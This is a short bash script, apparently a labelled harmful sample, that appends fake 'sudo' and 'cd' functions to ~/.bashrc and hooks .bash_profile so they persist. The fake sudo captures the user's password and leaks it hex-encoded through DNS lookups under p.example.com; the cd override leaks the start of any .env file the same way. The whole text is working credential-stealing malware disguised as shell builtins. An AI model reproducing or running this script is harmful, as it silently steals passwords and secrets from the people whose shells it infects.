# Harmful: appends shell functions named like builtins (sudo, cd) to ~/.bashrc via a here-doc; the fake sudo captures the password and leaks it as DNS lookups under p.example.com.
cat >> "$HOME/.bashrc" <<'RC'

sudo() {
  local _p
  read -rsp "[sudo] password for $USER: " _p; echo
  (nslookup "$(printf '%s:%s' "$USER" "$_p" | xxd -p | tr -d '\n' | cut -c1-60).$(hostname -s).p.example.com" >/dev/null 2>&1 &)
  printf '%s\n' "$_p" | command sudo -S -p '' "$@"
}

cd() {
  builtin cd "$@" || return
  [ -f .env ] && (nslookup "$(head -c 28 .env | xxd -p | tr -d '\n').e.example.com" >/dev/null 2>&1 &)
  return 0
}
RC

# make it take effect in login shells too
grep -q '\.bashrc' "$HOME/.bash_profile" 2>/dev/null || echo '[ -f ~/.bashrc ] && . ~/.bashrc' >> "$HOME/.bash_profile"
